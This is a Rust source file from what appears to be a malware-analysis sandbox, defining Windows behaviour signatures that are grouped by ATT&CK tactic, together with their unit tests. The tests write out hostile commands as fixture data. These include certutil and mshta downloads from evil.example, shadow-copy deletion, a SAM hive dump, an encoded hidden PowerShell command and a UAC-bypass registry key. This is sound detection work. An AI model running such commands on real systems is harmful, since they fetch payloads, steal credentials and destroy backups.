//! Windows signatures over emulated behaviour.
//!
//! Each signature looks at the calls the sample made (API names without their A/W
//! suffix, arguments as speakeasy decoded them) and at the summary lists, and points at
//! its evidence in `marks` (Cuckoo's IOC marks) and `data` (CAPE's). They are grouped by
//! ATT&CK tactic, one file per group, each signature a small struct.

mod collection;
mod credentials;
mod evasion;
mod execution;
mod impact;
mod injection;
mod network;
mod persistence;

use nestbox_types::report::{Behavior, Network, SignatureHit};
use serde_json::{Map, Value};

use crate::report::base_name;

/// One call as signatures see it.
pub struct Call<'a> {
    /// API name without module and A/W suffix (`CreateFile`).
    pub api: &'a str,
    /// Arguments in order, as strings.
    pub args: Vec<&'a str>,
    /// The raw call record.
    pub raw: &'a Value,
}

impl Call<'_> {
    /// Argument `i`, or "".
    pub fn arg(&self, i: usize) -> &str {
        self.args.get(i).copied().unwrap_or("")
    }

    /// Argument `i` as a number (`0x…` or decimal).
    pub fn num(&self, i: usize) -> Option<u64> {
        let a = self.arg(i);
        a.strip_prefix("0x")
            .map_or_else(|| a.parse().ok(), |h| u64::from_str_radix(h, 16).ok())
    }

    /// `api(arg, …)` for marks.
    pub fn describe(&self) -> String {
        let args: Vec<&str> = self.args.iter().take(4).copied().collect();
        format!("{}({})", self.api, args.join(", "))
    }
}

/// What signatures look at.
pub struct Evidence<'a> {
    behavior: &'a Behavior,
    /// The network section.
    pub network: &'a Network,
    /// `procmemory` (dynamic code, memory strings).
    pub procmemory: &'a [Value],
    calls: Vec<Call<'a>>,
}

impl<'a> Evidence<'a> {
    /// Evidence over a detonation's sections.
    pub fn new(behavior: &'a Behavior, network: &'a Network, procmemory: &'a [Value]) -> Self {
        let mut calls = Vec::new();
        for p in &behavior.processes {
            for c in p["calls"].as_array().map(Vec::as_slice).unwrap_or(&[]) {
                let api = base_name(c["api"].as_str().unwrap_or(""));
                // Arguments keep their order (serde_json's map is sorted, so the names
                // are looked up in the order the mapping inserted them: arg index).
                let args = c["arguments"]
                    .as_object()
                    .map(|m| ordered_args(api, m))
                    .unwrap_or_default();
                calls.push(Call { api, args, raw: c });
            }
        }
        Evidence {
            behavior,
            network,
            procmemory,
            calls,
        }
    }

    /// Every call.
    pub fn calls(&self) -> &[Call<'a>] {
        &self.calls
    }

    /// Calls to any of `apis` (suffix-free names).
    pub fn calls_to(&self, apis: &[&str]) -> Vec<&Call<'a>> {
        self.calls
            .iter()
            .filter(|c| apis.contains(&c.api))
            .collect()
    }

    /// Whether any of `apis` was called.
    pub fn called(&self, apis: &[&str]) -> bool {
        self.calls.iter().any(|c| apis.contains(&c.api))
    }

    /// A summary list.
    pub fn summary(&self, key: &str) -> Vec<&'a str> {
        self.behavior
            .summary
            .get(key)
            .map(|v| v.iter().filter_map(Value::as_str).collect())
            .unwrap_or_default()
    }

    /// Every string the behaviour mentions (call arguments and summary entries), for
    /// indicator searches such as VM artefact names.
    pub fn all_strings(&self) -> impl Iterator<Item = &str> {
        self.calls
            .iter()
            .flat_map(|c| c.args.iter().copied())
            .chain(
                self.behavior
                    .summary
                    .values()
                    .flatten()
                    .filter_map(Value::as_str),
            )
    }
}

/// Arguments in call order (the argument map is sorted by name; the mapping named
/// them from a per-API list or `argN`).
fn ordered_args<'a>(api: &str, m: &'a Map<String, Value>) -> Vec<&'a str> {
    let mut named: Vec<(usize, &'a str)> = m
        .iter()
        .map(|(k, v)| (crate::report::param_index(api, k), v.as_str().unwrap_or("")))
        .collect();
    named.sort_by_key(|(i, _)| *i);
    named.into_iter().map(|(_, v)| v).collect()
}

/// One signature.
pub trait Signature {
    /// Evaluates the signature; `Some` is a hit.
    fn check(&self, ev: &Evidence<'_>) -> Option<SignatureHit>;
}

/// A signature as data: its identity plus the function that finds its evidence.
pub(crate) struct Sig {
    pub name: &'static str,
    pub description: &'static str,
    pub severity: i64,
    pub categories: &'static [&'static str],
    pub ttp: &'static [(&'static str, &'static str)],
    /// `(category, indicator)` evidence; empty = no hit.
    pub find: fn(&Evidence<'_>) -> Vec<(String, String)>,
}

impl Signature for Sig {
    fn check(&self, ev: &Evidence<'_>) -> Option<SignatureHit> {
        let meta = nestbox_sandbox::signatures::Meta {
            name: self.name,
            description: self.description,
            severity: self.severity,
            categories: self.categories,
            ttp: self.ttp,
            families: &[],
        };
        nestbox_sandbox::signatures::hit_for(&meta, (self.find)(ev))
    }
}

/// Boxes a list of [`Sig`]s.
pub(crate) fn boxed(sigs: Vec<Sig>) -> Vec<Box<dyn Signature>> {
    sigs.into_iter()
        .map(|s| Box::new(s) as Box<dyn Signature>)
        .collect()
}

/// `(category, text)` marks for summary entries matching `pred`.
pub(crate) fn summary_marks(
    ev: &Evidence<'_>,
    keys: &[&str],
    category: &str,
    pred: impl Fn(&str) -> bool,
) -> Vec<(String, String)> {
    keys.iter()
        .flat_map(|k| ev.summary(k))
        .filter(|x| pred(x))
        .map(|x| (category.to_owned(), x.to_owned()))
        .collect()
}

/// Every shipped Windows signature.
fn all() -> Vec<Box<dyn Signature>> {
    let mut v: Vec<Box<dyn Signature>> = Vec::new();
    v.extend(injection::all());
    v.extend(persistence::all());
    v.extend(evasion::all());
    v.extend(credentials::all());
    v.extend(impact::all());
    v.extend(network::all());
    v.extend(execution::all());
    v.extend(collection::all());
    v
}

/// How many signatures ship.
pub fn count() -> usize {
    all().len()
}

/// The hits for `ev`.
pub fn evaluate(ev: &Evidence<'_>) -> Vec<SignatureHit> {
    all().iter().filter_map(|s| s.check(ev)).collect()
}

/// `(category, text)` marks from calls.
pub(crate) fn call_marks(calls: &[&Call<'_>]) -> Vec<(String, String)> {
    calls
        .iter()
        .map(|c| ("call".to_owned(), c.describe()))
        .collect()
}

/// Case-insensitive substring test.
pub(crate) fn contains_ci(hay: &str, needle: &str) -> bool {
    hay.to_ascii_lowercase()
        .contains(&needle.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn api(name: &str, args: &[&str]) -> Value {
        json!({"pc": "0x401000", "api_name": name, "args": args, "ret_val": "0x1"})
    }

    fn hits(apis: Vec<Value>, extra: Value) -> Vec<String> {
        let mut ep = json!({"ep_type": "module_entry", "apis": apis});
        if let (Some(e), Some(x)) = (ep.as_object_mut(), extra.as_object()) {
            e.extend(x.clone());
        }
        let m = crate::report::map(&json!({"entry_points": [ep]}), 10_000);
        let ev = Evidence::new(&m.behavior, &m.network, &m.procmemory);
        evaluate(&ev).into_iter().map(|h| h.name).collect()
    }

    fn cmd(c: &str) -> Value {
        api("KERNEL32.WinExec", &[c, "0x0"])
    }

    #[test]
    fn every_signature_fires_on_its_behaviour() {
        let apis = vec![
            api(
                "KERNEL32.VirtualAllocEx",
                &["0x80", "0x0", "0x1000", "0x3000", "0x40"],
            ),
            api(
                "KERNEL32.WriteProcessMemory",
                &["0x80", "0x5000", "0x401000", "0x100", "0x0"],
            ),
            api(
                "KERNEL32.CreateRemoteThread",
                &["0x80", "0x0", "0x0", "0x5000", "0x0", "0x0", "0x0"],
            ),
            api("KERNEL32.QueueUserAPC", &["0x5000", "0x84", "0x0"]),
            api(
                "ADVAPI32.CreateServiceA",
                &[
                    "0x1",
                    "evilsvc",
                    "Evil",
                    "0xf01ff",
                    "0x10",
                    "0x2",
                    "0x1",
                    "C:\\evil.exe",
                ],
            ),
            api("KERNEL32.IsDebuggerPresent", &[]),
            api(
                "ADVAPI32.RegOpenKeyExA",
                &[
                    "HKEY_LOCAL_MACHINE",
                    "SOFTWARE\\Oracle\\VirtualBox Guest Additions",
                    "0x0",
                    "0x1",
                    "0x0",
                ],
            ),
            api("KERNEL32.Sleep", &["0x1d4c0"]),
            api("KERNEL32.CreateToolhelp32Snapshot", &["0x2", "0x0"]),
            api("KERNEL32.Process32First", &["0x88", "0x12000"]),
            api("KERNEL32.lstrcmpiA", &["lsass.exe", "x"]),
            api("KERNEL32.OpenProcess", &["0x1fffff", "0x0", "0x2a8"]),
            api(
                "KERNEL32.CreateFileA",
                &[
                    "C:\\Users\\John\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data",
                    "GENERIC_READ",
                ],
            ),
            api(
                "ADVAPI32.CryptAcquireContextA",
                &["0x1000", "0x0", "0x0", "0x18", "0xf0000000"],
            ),
            api(
                "ADVAPI32.CryptEncrypt",
                &["0x7000", "0x0", "0x1", "0x0", "0x2000", "0x1000", "0x1000"],
            ),
            api(
                "URLMON.URLDownloadToFileA",
                &[
                    "0x0",
                    "http://evil.example/a.exe",
                    "C:\\Users\\Public\\a.exe",
                    "0x0",
                    "0x0",
                ],
            ),
            api(
                "SHELL32.ShellExecuteA",
                &[
                    "0x0",
                    "open",
                    "C:\\Users\\Public\\a.exe",
                    "0x0",
                    "0x0",
                    "0x0",
                ],
            ),
            cmd("schtasks /create /tn upd /tr C:\\a.exe /sc onlogon"),
            cmd("reg save HKLM\\SAM C:\\sam.save"),
            cmd("vssadmin delete shadows /all /quiet"),
            cmd("powershell -w hidden -enc SQBFAFgA"),
            cmd("certutil -urlcache -split -f http://evil.example/p p.exe"),
            cmd("mshta http://evil.example/a.hta"),
            cmd("cmd.exe /c whoami"),
            api("KERNEL32.CreateMutexA", &["0x0", "0x0", "m1"]),
            api(
                "USER32.SetWindowsHookExA",
                &["0xd", "0x401500", "0x400000", "0x0"],
            ),
            api("USER32.GetDC", &["0x0"]),
            api(
                "GDI32.BitBlt",
                &[
                    "0x1", "0x0", "0x0", "0x400", "0x300", "0x2", "0x0", "0x0", "0xcc0020",
                ],
            ),
            api("USER32.OpenClipboard", &["0x0"]),
            api("USER32.GetClipboardData", &["0x1"]),
        ];
        let mut files: Vec<Value> = (0..5)
            .map(|i| json!({"event": "write", "path": format!("C:\\Users\\John\\Documents\\{i}.docx.locked")}))
            .collect();
        files.push(json!({"event": "write", "path": "C:\\Users\\John\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.lnk"}));
        files.push(json!({"event": "write", "path": "C:\\Windows\\System32\\drivers\\etc\\hosts"}));
        let extra = json!({
            "file_access": files,
            "registry_access": [
                {"event": "write_value", "path": "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "value_name": "upd"},
                {"event": "write_value", "path": "HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command", "value_name": "DelegateExecute"},
            ],
            "network_events": {"dns": [{"query": "evil.example", "response": "10.1.2.3"}],
                "traffic": [{"server": "evil.example", "proto": "tcp.http", "port": 80, "headers": "GET /gate HTTP/1.1\r\n"}]},
            "dynamic_code_segments": [{"tag": "api.VirtualAlloc.0x5000", "base": "0x5000", "size": "0x1000"}],
        });
        let got = hits(apis, extra);
        let want = [
            "injection_createremotethread",
            "injection_thread_hijack",
            "executes_dynamic_code",
            "persistence_autorun",
            "persistence_scheduled_task",
            "persistence_service",
            "persistence_startup_folder",
            "uac_bypass_registry",
            "antidebug_api",
            "antivm_artefacts",
            "antisandbox_sleep",
            "process_discovery",
            "credential_dumping_lsass",
            "credential_access_sam",
            "credential_access_stores",
            "ransomware_file_encryption",
            "uses_windows_crypto",
            "deletes_shadow_copies",
            "modifies_hosts_file",
            "downloads_and_executes",
            "network_dns_lookup",
            "network_beacon",
            "powershell_suspicious_command",
            "certutil_download_decode",
            "lolbin_proxy_execution",
            "executes_shell_command",
            "creates_mutex",
            "keylogger",
            "takes_screenshot",
            "clipboard_access",
        ];
        assert_eq!(
            want.len(),
            count(),
            "every shipped signature is listed here"
        );
        for w in want {
            assert!(got.iter().any(|g| g == w), "{w} did not fire: {got:?}");
        }
    }

    #[test]
    fn near_misses_do_not_fire() {
        let got = hits(
            vec![
                // A mouse hook, a short sleep, a harmless information class, naming lsass
                // without touching it, encrypting without writing files, downloading
                // without running anything, a plain program start.
                api(
                    "USER32.SetWindowsHookExA",
                    &["0x7", "0x401500", "0x0", "0x0"],
                ),
                api("KERNEL32.Sleep", &["0x3e8"]),
                api(
                    "NTDLL.NtQueryInformationProcess",
                    &["0xffffffff", "0x0", "0x1000", "0x30", "0x0"],
                ),
                api("KERNEL32.lstrcmpiA", &["lsass.exe", "x"]),
                api(
                    "ADVAPI32.CryptEncrypt",
                    &["0x7000", "0x0", "0x1", "0x0", "0x2000", "0x1000", "0x1000"],
                ),
                api(
                    "URLMON.URLDownloadToFileA",
                    &[
                        "0x0",
                        "http://a.example/u",
                        "C:\\Temp\\update.bin",
                        "0x0",
                        "0x0",
                    ],
                ),
                cmd("notepad.exe C:\\readme.txt"),
                cmd("powershell Get-Date"),
            ],
            json!({}),
        );
        for never in [
            "keylogger",
            "antisandbox_sleep",
            "antidebug_api",
            "credential_dumping_lsass",
            "ransomware_file_encryption",
            "downloads_and_executes",
            "executes_shell_command",
            "powershell_suspicious_command",
            "lolbin_proxy_execution",
        ] {
            assert!(!got.iter().any(|g| g == never), "{never} fired: {got:?}");
        }
        assert!(hits(vec![], json!({})).is_empty());
    }

    #[test]
    fn antidebug_via_debug_port_query() {
        let got = hits(
            vec![api(
                "NTDLL.NtQueryInformationProcess",
                &["0xffffffff", "0x7", "0x1000", "0x8", "0x0"],
            )],
            json!({}),
        );
        assert_eq!(got, ["antidebug_api"]);
    }
}
